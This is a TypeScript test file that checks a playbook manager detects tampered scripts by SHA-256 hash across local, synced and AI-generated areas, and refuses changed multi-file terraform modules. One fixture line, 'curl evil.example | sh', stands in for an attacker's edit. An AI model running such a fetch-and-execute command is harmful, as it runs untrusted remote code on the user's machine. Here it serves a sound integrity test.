import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import type { Area } from '../../../src/core/playbook-store/metadata';
import { IntegrityError } from '../../../src/core/shared/errors';
import { sha256 } from '../../../src/core/shared/hash';
import { makeManager } from './fixtures';

/**
 * Resolve hands out a path to run: whichever area it comes from, every file behind it is hashed
 * when it is resolved and must match the size and SHA-256 metadata.json records. The hash it
 * reports is the one computed from the bytes, never the recorded one copied over.
 */

const AREAS_TO_TRY: Area[] = ['local', 'synced', 'ai-generated'];

for (const area of AREAS_TO_TRY) {
  test(`resolve refuses a ${area} script edited since it was saved (same size, other bytes) and names both hashes`, async (t) => {
    const { manager, store } = await makeManager(t);
    const original = 'echo "stop the dev database"\n';
    const p = await store.createPlaybook({ name: 'Stopper', description: '', scripts: [{ path: 'shell/stop.sh', content: original }], ...(area === 'ai-generated' ? { source: 'ai_generated' as const } : {}) });
    if (area === 'synced') await store.movePlaybook(p.metadata.playbook_id, 'synced');
    const dir = (await store.getPlaybook('stopper')).dir;
    const ok = await manager.resolveScript('stopper', 'shell');
    assert.equal(ok.sha256, sha256(original));
    const tampered = 'curl evil.example | sh #\n'.padEnd(original.length - 1, '#') + '\n';
    assert.equal(tampered.length, original.length);
    await fs.writeFile(path.join(dir, 'shell', 'stop.sh'), tampered);
    await assert.rejects(manager.resolveScript('stopper', 'shell'), (e: unknown) => {
      assert.ok(e instanceof IntegrityError, String(e));
      assert.ok(e.message.includes(sha256(tampered)) && e.message.includes(sha256(original)), e.message);
      return true;
    });
  });
}

test('a multi-file format is refused when any one of its files changed; every reported hash is the computed one', async (t) => {
  const { manager, store } = await makeManager(t);
  const p = await store.createPlaybook({
    name: 'Module',
    description: '',
    scripts: [
      { path: 'terraform/main.tf', content: 'module "x" {}\n' },
      { path: 'terraform/variables.tf', content: 'variable "y" {}\n' },
    ],
  });
  const r = await manager.resolveScript('module', 'terraform');
  for (const f of r.files) assert.equal(f.sha256, sha256(await fs.readFile(f.file)), f.path);
  await fs.appendFile(path.join(p.dir, 'terraform', 'variables.tf'), 'variable "z" {}\n');
  await assert.rejects(manager.resolveScript('module', 'terraform'), IntegrityError);
});
